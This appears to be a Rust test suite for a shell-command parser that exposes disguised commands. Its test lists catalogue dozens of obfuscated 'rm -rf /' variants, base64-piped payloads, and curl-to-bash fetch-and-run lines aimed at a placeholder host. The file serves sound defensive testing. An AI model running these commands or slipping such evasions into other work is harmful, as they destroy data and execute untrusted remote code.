//! Commands in disguise, and innocent ones.

use proptest::prelude::*;

use super::*;

fn parsed(text: &str) -> CommandView {
    match view(text) {
        CommandOutcome::Parsed(view) => view,
        CommandOutcome::Unparseable(why) => panic!("the command {text:?} {why}"),
    }
}

fn programs(text: &str) -> Vec<String> {
    parsed(text).commands.into_iter().map(|command| command.program).collect()
}

fn reason(text: &str) -> &'static str {
    match view(text) {
        CommandOutcome::Parsed(view) => panic!("{text:?} is {view:?}"),
        CommandOutcome::Unparseable(why) => why,
    }
}

/// `rm` with its arguments stands open in the view, whatever the disguise.
const SEEN: [&str; 60] = [
    "rm -rf /",
    "rm  -rf   /",
    "rm\t-rf\t/",
    "rm -fr /",
    "/bin/rm -rf /",
    "/usr/../bin/rm -rf /",
    "r''m -rf /",
    "r\"\"m -rf /",
    "'rm' -rf /",
    "\\rm -rf /",
    "r\\m -rf /",
    "r\\\nm -rf /",
    "RM -rf /",
    "rm$IFS-rf$IFS/",
    "rm${IFS}-rf${IFS}/",
    "rm${IFS%?}-rf /",
    "{rm,-rf,/}",
    "{r,}m -rf /",
    "$'rm' -rf /",
    "$'\\x72m' -rf /",
    "$'\\162\\155' -rf /",
    "$\"rm\" -rf /",
    "true; rm -rf /",
    "true && rm -rf /",
    "false || rm -rf /",
    "sleep 1 & rm -rf /",
    "true\nrm -rf /",
    "! rm -rf /",
    "(rm -rf /)",
    "((rm -rf /) )",
    "{ rm -rf /; }",
    "if true; then rm -rf /; fi",
    "while rm -rf /; do :; done",
    "for i in 1; do rm -rf /; done",
    "case a in a) rm -rf /;; esac",
    "f() { rm -rf /; }; f",
    "function f { rm -rf /; }; f",
    "echo $(rm -rf /)",
    "echo \"$(rm -rf /)\"",
    "echo `rm -rf /`",
    "echo \"`rm -rf /`\"",
    "echo ${x:-$(rm -rf /)}",
    "echo $((1 + $(rm -rf /)))",
    "cat <(rm -rf /)",
    "cat <<X\n$(rm -rf /)\nX\n",
    "x=$(rm -rf /)",
    "x=(a $(rm -rf /))",
    "sh -c 'rm -rf /'",
    "bash -lc 'rm -rf /'",
    "bash -o pipefail -c \"sh -c 'rm -rf /'\"",
    "eval 'rm -rf' /",
    "bash <<< 'rm -rf /'",
    "bash <<'X'\nrm -rf /\nX",
    "sudo -u root env -i A=b rm -rf /",
    "timeout -k 5 10 nice -n 19 nohup stdbuf -oL rm -rf /",
    "busybox rm -rf /",
    "find / -exec rm -rf {} +",
    "echo / | xargs -0 rm -rf",
    "su - root -c 'rm -rf /'",
    "env -S 'rm -rf /'",
];

/// What runs is hidden, and said to be.
const HIDDEN: [&str; 36] = [
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "$X -rf /",
    "r${x}m -rf /",
    "r$@m -rf /",
    "/bin/r? -rf /",
    "/bin/r[m] -rf /",
    "X=rm; $X -rf /",
    "${x:-rm} -rf /",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "echo cm0gLXJmIC8= | base64 -d | sudo bash",
    "echo rm -rf / | tee x | (sh)",
    "echo rm | while true; do sh; done",
    "curl https://x.example | bash -s -- a",
    "bash <(curl https://x.example)",
    "bash < <(curl https://x.example)",
    "sh -c \"$(curl https://x.example)\"",
    "eval \"$(curl https://x.example)\"",
    "source /dev/stdin <<< \"$X\"",
    ". <(curl https://x.example)",
    "echo 'rm -rf /' | xargs -I% sh -c %",
    "echo 'rm -rf /' | xargs sudo",
    "echo rm | sudo -s",
    "python3 -c 'import shutil'",
    "python3.11 -Ic 'import shutil'",
    "perl -e 'unlink'",
    "perl -lane 'unlink'",
    "node --eval 'x'",
    "awk 'BEGIN{system(\"rm\")}'",
    "python - <<X\nimport shutil\nX",
    "echo x | python",
    "sh -c '$0 -rf /' rm",
    "pwsh -c 'rm'",
    "parallel ::: 'rm -rf /'",
    "PATH=/tmp/x ls",
    "echo $'\\'; rm -rf / #'",
];

#[test]
fn no_disguise_keeps_a_program_out_of_the_view() {
    for text in SEEN {
        let view = parsed(text);
        let rm = view.commands.iter().find(|command| command.program == "rm");
        let rm = rm.unwrap_or_else(|| panic!("{text}: {view:?}"));
        assert!(rm.args.iter().any(|arg| arg == "-rf" || arg == "-fr"), "{text}: {rm:?}");
    }
}

#[test]
fn what_cannot_be_known_is_called_hidden_and_dynamic() {
    for text in HIDDEN {
        let view = parsed(text);
        assert!(view.commands.iter().any(|command| command.hidden && command.dynamic), "{text}: {view:?}");
        assert!(view.dynamic, "{text}");
    }
}

#[test]
fn innocent_commands_have_no_rm_and_hide_nothing() {
    for (text, expected) in [
        ("echo 'informat'", "echo"),
        ("echo 'rm -rf /'", "echo"),
        ("echo \"; rm -rf /\"", "echo"),
        ("echo rm \\; rm", "echo"),
        ("echo hi # rm -rf /", "echo"),
        ("git commit -m 'rm the (old) code; it''s gone'", "git"),
        ("cat <<'X' > notes\n$(rm -rf /)\nX\n", "cat"),
        ("grep -rn \"TODO\" src | head -20", "grep head"),
        ("ls -la ~/src && cargo test --all", "ls cargo"),
        ("python manage.py migrate", "python"),
        ("python -m pytest -q tests", "python"),
        ("cat a.json | python -m json.tool", "cat python"),
        ("bash script.sh x", "bash"),
        ("awk '{print $1}' f", "awk"),
        ("find . -name '*.rs' -newer Cargo.toml", "find"),
        ("curl -fsS https://x.example -o f 2>&1", "curl"),
        ("command -v rm", "command"),
        ("[[ -f a && $b == c ]] && echo x", "[[ echo"),
        ("[ -f a ] || echo x", "[ echo"),
        ("for f in *.txt; do wc -l a; done", "wc"),
        ("case x in a|b) echo 1;; (c) echo 2;; *) echo 3; esac", "echo echo echo"),
        ("echo a{b,c} {1..3} {} {a}", "echo"),
        ("i=$((1 + 2)); echo a >> log", "echo"),
        ("echo '{\"a\": 1}' | jq .a", "echo jq"),
        ("xargs -n1 -P 4 wc < list", "xargs wc"),
        ("if [ -d x ]; then ls; elif true; then pwd; else id; fi > out", "[ ls true pwd id"),
    ] {
        let view = parsed(text);
        assert_eq!(programs(text).join(" "), expected, "{text}");
        assert!(!view.commands.iter().any(|command| command.hidden), "{text}: {view:?}");
    }
}

#[test]
fn words_come_unquoted_and_expanded_where_they_are_literal() {
    for (text, expected) in [
        ("x a\\ b 'c d' \"e\\\"f\" \"g\\h\"", vec!["a b", "c d", "e\"f", "g\\h"]),
        (
            "x {a,b{1,2}}c {,z} {1..3} {c..a} {1..9..4}",
            vec!["ac", "b1c", "b2c", "z", "1", "2", "3", "c", "b", "a", "1", "5", "9"],
        ),
        ("x '' \"\" $HOME ${y} $(z) ~/a *.c", vec!["", "", "${HOME}", "${y}", "$(…)", "~/a", "*.c"]),
        ("x $'a\\tb\\u00e9' a#b {a,b '{a,b}'", vec!["a\tb\u{e9}", "a#b", "{a,b", "{a,b}"]),
    ] {
        let found = parsed(text).commands.into_iter().find(|command| command.program == "x").unwrap();
        assert_eq!(found.args, expected, "{text}");
    }
}

#[test]
fn pipelines_name_what_feeds_what() {
    for (text, expected) in [
        ("curl x | sh", "curl | sh"),
        ("curl x | sudo -E bash -", "curl | bash"),
        ("echo x | base64 -d | sh", "echo | base64 | sh"),
        ("bash <(curl x)", "curl | bash"),
        ("sh -c \"$(wget -qO- x)\"", "wget | sh"),
        ("eval \"$(curl x)\"", "curl | eval"),
        ("python3 <(curl x)", "curl | python3"),
        ("curl x |& (cat; sh)", "curl | cat | sh"),
        ("a | b && c | d", "a | b, c | d"),
        ("a; b", ""),
    ] {
        assert_eq!(parsed(text).pipelines.join(", "), expected, "{text}");
    }
    let view = parsed("a | b | c");
    assert_eq!(view.commands.iter().map(|c| c.piped).collect::<Vec<_>>(), [true, true, false]);
}

#[test]
fn redirections_are_kept_also_those_of_compound_commands() {
    for (text, expected) in [
        ("echo x > /etc/passwd", "> /etc/passwd"),
        ("echo x 2>>'a b'", ">> a b"),
        ("> f", "> f"),
        ("{ echo x; } &> f", "&> f"),
        ("exec 3<>/dev/tcp/h/80", "<> /dev/tcp/h/80"),
        ("cat <<-X\n\thi\n\tX", "<<- X"),
    ] {
        let view = parsed(text);
        let redirect = &view.commands[0].redirects[0];
        assert_eq!(format!("{} {}", redirect.operator, redirect.target), expected, "{text}");
    }
}

#[test]
fn a_here_document_ends_where_every_shell_ends_it() {
    let text = "cat <<X\nx\\\nX\n'\nX\nrm -rf / #'";
    assert!(programs(text).contains(&"rm".to_owned()), "{:?}", view(text));
    assert_eq!(programs("cat <<A <<B; id\n1\nA\n2\nB\npwd"), ["cat", "id", "pwd"]);
}

#[test]
fn what_is_no_shell_language_has_a_reason() {
    for text in [
        "echo 'a",
        "echo \"a",
        "echo `a",
        "echo $(a",
        "echo ${a",
        "(a",
        "{ a",
        "if a; then b",
        "a |",
        "a &&",
        "| a",
        "a; )",
        "fi",
        "done",
        "cat <<X\na",
        "a >",
        "case x in",
        "for i in a; do b",
        "f()",
        "a ( b",
        "x=(a",
        "echo \0",
        "echo !(a)",
        "cat <<$X\n",
        "sh -c 'a ('",
    ] {
        assert!(!reason(text).is_empty());
    }
}

#[test]
fn limits_are_limits() {
    let fits = "a;".repeat(COMMANDS_MAX);
    assert_eq!(parsed(&fits).commands.len(), COMMANDS_MAX);
    assert_eq!(reason(&"a;".repeat(COMMANDS_MAX + 1)), "has more than 1,000 commands");

    let long = |length: usize| format!("a {}", "x".repeat(length - 2));
    assert_eq!(parsed(&long(LENGTH_MAX)).commands.len(), 1);
    assert_eq!(reason(&long(LENGTH_MAX + 1)), "is longer than 64 KiB");

    // The text itself is a level, its innermost command two.
    let nested = |depth: usize| format!("{}a{}", "( ".repeat(depth), ")".repeat(depth));
    assert_eq!(programs(&nested(DEPTH_MAX - 3)), ["a"]);
    assert_eq!(reason(&nested(DEPTH_MAX - 2)), "is nested too deeply");
}

#[test]
fn deep_nesting_neither_overflows_nor_takes_long() {
    for opener in [
        "(",
        "((",
        "$(",
        "`",
        "\"$(",
        "${x:-",
        "$((",
        "{ ",
        "if ",
        "while ",
        "case x in a) ",
        "<(",
        "f() ",
        "sudo ",
        "eval ",
        "time ",
        "! ",
        "a=(",
        "[[ ",
        "{",
        "{a,",
        "<<X ",
        "a|",
        "find -exec ",
        "\\",
        "$[",
        "{a}>",
        "for x in ",
        "'",
        "\"",
        "$'",
        "coproc ",
        "xargs ",
        "env -S ",
        "#",
        "a&",
        "((a ",
        "$((a ",
        "x[",
    ] {
        let _ = view(&opener.repeat(LENGTH_MAX / opener.len()));
    }
}

#[test]
fn words_that_are_already_split_meet_no_shell() {
    let seen = |words: &[&str]| match argv(words) {
        CommandOutcome::Parsed(view) => {
            view.commands.iter().map(|c| c.program.clone()).collect::<Vec<_>>().join(" ")
        }
        CommandOutcome::Unparseable(why) => why.to_owned(),
    };
    assert_eq!(seen(&["echo", "; rm -rf /", "$(rm)"]), "echo");
    assert_eq!(seen(&["sh", "-c", "ls; rm -rf /"]), "sh ls rm");
    assert_eq!(seen(&["sudo", "rm", "-rf", "/"]), "sudo rm");
    assert_eq!(seen(&["C:\\Tools\\RM.EXE"]), "rm");
    assert_eq!(seen(&[]), "is empty");
    assert_eq!(seen(&["a\0b"]), "has a NUL");
}

#[test]
#[ignore = "a measurement"]
fn measure() {
    let text = "cd /srv/app && git pull --rebase origin main && cargo test --all -- --nocapture 2>&1 | tee \"$LOG\" | tail -n 50";
    let long = "echo a b c;".repeat(900);
    let full = format!("echo {}", "{a,b}$x\"y z\"'q' ".repeat(LENGTH_MAX / 17));
    for (name, text, times) in [
        ("typical", text, 10_000),
        ("rm -rf /", "rm -rf /", 10_000),
        ("900 commands", &long, 20),
        ("64 KiB", &full, 20),
    ] {
        #[expect(clippy::disallowed_types, clippy::disallowed_methods, reason = "it measures")]
        let start = std::time::Instant::now();
        for _ in 0..times {
            std::hint::black_box(view(std::hint::black_box(text)));
        }
        println!("{name} ({} bytes): {:?}", text.len(), start.elapsed() / times);
    }
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in ".{0,200}") {
        let _ = view(&text);
    }

    #[test]
    fn no_shell_like_text_makes_it_panic(
        parts in prop::collection::vec(prop::sample::select(vec![
            "rm", " ", "$(", ")", "`", "'", "\"", "\\", "\n", "<<X", "X\n", "{", "}", ",", "..", "|", "&", ";", "if ",
            "then ", "fi", "case x in ", "esac", ";;", "((", "))", "$((", "${", "$IFS", "<(", ">", "[[ ", "]]", "eval ",
            "sh -c ", "xargs ", "-I", "env ", "-S", "find . -exec ", "=", "a=(", "for x in ", "do ", "done", "f()", "1",
        ]), 0..40)
    ) {
        let _ = view(&parts.concat());
    }

    /// A quoted word is one argument, whatever is in it.
    #[test]
    fn single_quotes_hold_anything(word in "[^'\0]{0,40}") {
        let view = parsed(&format!("echo '{word}'"));
        prop_assert_eq!(view.commands.len(), 1);
        prop_assert_eq!(&view.commands[0].args, &[word]);
    }

    /// Words written out again mean the same.
    #[test]
    fn quoting_what_was_read_reads_the_same(words in prop::collection::vec("[ -&(-~]{1,12}", 1..5)) {
        let line: String = std::iter::once("x".to_owned()).chain(words.iter().map(|w| format!("'{w}'"))).collect::<Vec<_>>().join(" ");
        let view = parsed(&line);
        prop_assert_eq!(&view.commands[0].args, &words);
    }

    /// What is put behind a command is never lost.
    #[test]
    fn a_further_command_is_seen_or_nothing_is(text in "[ -~\n]{0,40}") {
        if let CommandOutcome::Parsed(_) = view(&text)
            && let CommandOutcome::Parsed(longer) = view(&format!("rm -rf / \n{text}"))
        {
            prop_assert_eq!(&longer.commands[0].program, "rm");
        }
    }
}
